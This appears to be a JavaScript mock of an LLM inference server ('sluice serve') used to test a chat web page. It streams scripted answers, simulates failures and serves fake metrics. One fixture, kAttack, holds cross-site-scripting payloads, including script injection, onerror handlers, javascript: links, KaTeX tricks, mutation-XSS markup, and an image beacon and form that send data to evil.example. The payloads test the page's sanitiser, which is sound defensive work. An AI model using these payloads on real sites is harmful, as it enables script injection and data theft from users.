// A server that answers as `sluice serve` does, for the tests of the page: the files of FOLDER with the security policy of
// src/serve/page.h, and an API whose answers are chosen by what is asked.
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { fileURLToPath } from "node:url";
import { dirname, join } from "node:path";

const repository = join(dirname(fileURLToPath(import.meta.url)), "../../..");
const kTypes = { html: "text/html; charset=utf-8", js: "text/javascript; charset=utf-8", css: "text/css; charset=utf-8", svg: "image/svg+xml" };

/// The policy that the real server sends, so that the tests fail when the page needs more.
async function security_policy() {
  const header = await readFile(join(repository, "src/serve/page.h"), "utf8");
  const found = /kPageSecurityPolicy =\s*((?:"[^"]*"\s*)+);/.exec(header);
  const pieces = [...found[1].matchAll(/"([^"]*)"/g)].map((piece) => piece[1]);
  return pieces.join("");
}

const kMarkdown = `## Reading a file

Here is **bold**, *italic*, \`inline code\` and a [link](https://example.com/a?b=c).

1. First, open it.
2. Then read it:

\`\`\`python
def read(path: str) -> str:
    """Return the text of a file."""
    with open(path, encoding="utf-8") as file:  # closed at the end
        return file.read()[:1024]
\`\`\`

| op | cost | note |
|---|---:|---|
| attention | 4 T d | grows |
| experts | 6 k d f | does not |

Euler wrote $e^{i\\pi} + 1 = 0$, and it costs $5 or $10 in print. The softmax is

$$
\\mathrm{softmax}(x)_i = \\frac{\\exp x_i}{\\sum_{j=1}^{n} \\exp x_j}
$$

and \\(a^2 + b^2 = c^2\\) as well, then \\[ \\int_0^1 x^2\\,dx = \\tfrac13 \\]

> Quoted, with a
> second line.

- [x] done
- [ ] to do
`;

const kAttack = `Before <script>window.hacked = 1</script> after.

<img src=x onerror="window.hacked = 2">

<a href="javascript:window.hacked = 3">plain link</a> and [a link](javascript:window.hacked=4) and [data](data:text/html,<script>1</script>)

![picture](https://evil.example/leak?q=secret)

<svg><script>window.hacked = 5</script></svg><iframe srcdoc="<script>parent.hacked = 6</script>"></iframe>

<style>body { display: none }</style><form action="https://evil.example"><input name=a><button>go</button></form>

<details><summary>more</summary>plain <sub>tags</sub> stay</details>

$\\href{javascript:window.hacked=7}{x}$ and $\\includegraphics{https://evil.example/x.png}$ and $\\htmlData{a=b}{x}$ and $</span><script>window.hacked = 8</script>$

\`\`\`"><img src=x onerror=window.hacked=9>
<script>window.hacked = 10</script>
\`\`\`

\`\`\`html
<img src=x onerror="window.hacked = 11">
\`\`\`

<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 12"></style></mglyph></table></mtext></math>
END`;

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const pieces_of = (text, size) => text.match(size ? new RegExp(`[^]{1,${size}}`, "g") : /\s*\S{1,6}|\s+/g) ?? [];

/// `options`: dist (folder of the page), models (of /v1/models), key (wanted in Authorization), loading (how many times
/// /v1/models answers 503).
export async function start_mock(options = {}) {
  const dist = options.dist ?? join(repository, "web/dist");
  const policy = await security_policy();
  const state = {
    models: options.models ?? [{ id: "mock-v3", object: "model", max_model_len: 4096, chat: true }],
    key: options.key ?? "",
    loading: options.loading ?? 0,
    requests: [],   // bodies of completions, in order
    aborted: 0,     // streams whose client went away
    script: null,   // the answer to everything, where a test sets it
    started: Date.now(),
  };

  const server = createServer(async (request, response) => {
    const path = new URL(request.url, "http://mock").pathname;
    try {
      if (path === "/metrics") return send(response, 200, "text/plain; version=0.0.4", metrics((Date.now() - state.started) / 1000));
      if (path.startsWith("/v1/")) return await api(state, path, request, response);
      const name = path === "/" ? "index.html" : path === "/monitor" ? "monitor.html" : path.slice(1);
      if (name.includes("/") || name.endsWith(".html") !== (path === "/" || path === "/monitor")) throw new Error("no such file");
      const content = await readFile(join(dist, name));
      response.setHeader("Content-Security-Policy", policy);
      response.setHeader("X-Content-Type-Options", "nosniff");
      send(response, 200, kTypes[name.split(".").pop()], content);
    } catch (error) {
      if (!response.headersSent) send_error(response, 404, `${path}: ${error.message}`);
    }
  });
  await new Promise((resolve) => server.listen(options.port ?? 0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}/`, state, close: () => (server.closeAllConnections(), server.close()) };
}

function send(response, status, type, body) {
  response.writeHead(status, { "Content-Type": type });
  response.end(body);
}

function send_error(response, status, message) {
  send(response, status, "application/json", JSON.stringify({ error: { message, type: "error", param: null, code: null } }));
}

async function api(state, path, request, response) {
  if (state.key && request.headers.authorization !== `Bearer ${state.key}`) return send_error(response, 401, "This server wants an API key.");
  if (path === "/v1/models") {
    if (state.loading-- > 0) return send_error(response, 503, "The model is being loaded.");
    return send(response, 200, "application/json", JSON.stringify({ object: "list", data: state.models }));
  }
  let text = "";
  for await (const piece of request) text += piece;
  const body = JSON.parse(text);
  state.requests.push(body);
  if (path === "/v1/completions") return stream(state, response, body, completion_script(body), (text) => ({ text }));
  const last = body.messages.at(-1).content;
  if (last.includes("refuse")) {
    return send_error(response, 400, "This model's maximum context length is 4096 tokens, however you asked for 5000.");
  }
  return stream(state, response, body, chat_script(state, last), (content, reasoning) => ({ delta: reasoning ? { reasoning_content: reasoning } : { content } }));
}

/// What an answer consists of: reasoning, text, ms between pieces, and how it ends.
function chat_script(state, asked) {
  if (state.script) return state.script;
  if (asked.includes("attack")) return { text: kAttack, delay: 1 };
  if (asked.includes("forever")) return { text: "on and on ".repeat(5000), delay: 15 };
  if (asked.includes("break off")) return { text: "Half of an", delay: 2, breaks: true };
  if (asked.includes("fail later")) return { text: "Half of an", delay: 2, error: "The model produced NaN." };
  if (asked.includes("limit")) return { text: "Cut short because", delay: 2, finish: "length" };
  if (asked.includes("think")) {
    return { reasoning: "The user wants a number.\n\nLet me take $6 \\times 7$ and check it twice.", text: "The answer is **42**.", delay: 12 };
  }
  if (asked.includes("markdown")) return { text: kMarkdown, delay: 2 };
  if (asked.includes("long")) return { text: Array.from({ length: 60 }, (_, i) => `Paragraph ${i + 1} of a long answer.`).join("\n\n"), delay: 4 };
  return { text: `Answer ${state.requests.length} to: ${asked}`, delay: 6 };
}

const completion_script = (body) => ({ text: ` and so it went on, line ${body.prompt.length}, until the rain came.`, delay: 10 });

async function stream(state, response, body, script, choice) {
  let is_open = true;
  response.on("close", () => {
    if (!response.writableFinished) state.aborted += 1;
    is_open = false;
  });
  response.writeHead(200, { "Content-Type": "text/event-stream" });
  const event = (fields) => response.write(`data: ${JSON.stringify({ id: "x", model: body.model, ...fields })}\n\n`);
  response.write(": keep-alive\n\n");
  let tokens = 0;
  for (const [kind, whole] of [["reasoning", script.reasoning ?? ""], ["text", script.text]]) {
    for (const piece of pieces_of(whole, script.size)) {
      if (!is_open) return;
      event({ choices: [{ index: 0, finish_reason: null, ...(kind === "text" ? choice(piece) : choice("", piece)) }] });
      tokens += 1;
      await sleep(script.delay);
    }
  }
  if (script.breaks) {
    await sleep(200);  // what was sent has arrived
    return response.destroy();
  }
  if (script.error) event({ error: { message: script.error, type: "server_error" } });
  else {
    event({ choices: [{ index: 0, finish_reason: script.finish ?? "stop", ...choice("") }] });
    event({ choices: [], usage: {
      prompt_tokens: 1024, completion_tokens: tokens, total_tokens: 1024 + tokens, prompt_cache_hit_tokens: 896, prompt_cache_miss_tokens: 128,
      sluice: { prompt_seconds: 0.2, generation_seconds: (tokens - 1) / 50, draft_proposed: 100, draft_accepted: 71 } } });
  }
  response.end("data: [DONE]\n\n");
}

/// A server that is busy in waves, `t` seconds after its start.
function metrics(t) {
  const wave = Math.sin(t / 9);
  const lines = ['# HELP sluice_num_requests_running Requests in the batch.', "# TYPE sluice_num_requests_running gauge"];
  const sample = (name, value, labels = "") => lines.push(`sluice_${name}{model_name="mock-v3"${labels}} ${value}`);
  sample("num_requests_running", Math.round(9 + 6 * wave));
  sample("num_requests_waiting", Math.max(0, Math.round(5 * wave)));
  sample("kv_cache_usage_perc", (0.5 + 0.3 * wave).toFixed(4));
  sample("prompt_tokens_total", Math.round(900 * t + 4000 * (1 - Math.cos(t / 9))));
  sample("generation_tokens_total", Math.round(310 * t - 900 * Math.cos(t / 9) + 900));
  sample("prefix_cache_queries_total", Math.round(900 * t));
  sample("prefix_cache_hits_total", Math.round(610 * t));
  sample("spec_decode_num_draft_tokens_total", Math.round(200 * t));
  sample("spec_decode_num_accepted_tokens_total", Math.round(142 * t));
  const requests = 3 * t;
  const histogram = (name, rows, count) => {
    for (const [bound, share] of rows) sample(`${name}_bucket`, Math.round(share * count), `,le="${bound}"`);
    sample(`${name}_sum`, count * 0.2);
    sample(`${name}_count`, Math.round(count));
  };
  histogram("time_to_first_token_seconds", [[0.05, 0.1], [0.1, 0.4], [0.25, 0.8], [0.5, 0.96], [1, 1], ["+Inf", 1]], requests);
  histogram("inter_token_latency_seconds", [[0.01, 0.2], [0.025, 0.7], [0.05, 0.95], [0.1, 1], ["+Inf", 1]], 310 * t);
  for (let layer = 3; layer < 15; ++layer) {
    for (let expert = 0; expert < 64; ++expert) {
      const skew = 1 + 0.8 * Math.sin(expert * 12.9 + layer * 78.2) + (layer === 7 && expert === 17 ? 3 : 0);
      sample("expert_tokens_total", Math.round(t * 30 * skew), `,layer="${layer}",expert="${expert}"`);
    }
  }
  return lines.join("\n") + "\n";
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const { url } = await start_mock({ port: Number(process.argv[2] ?? 8081), dist: process.argv[3] });
  console.log(url);
}
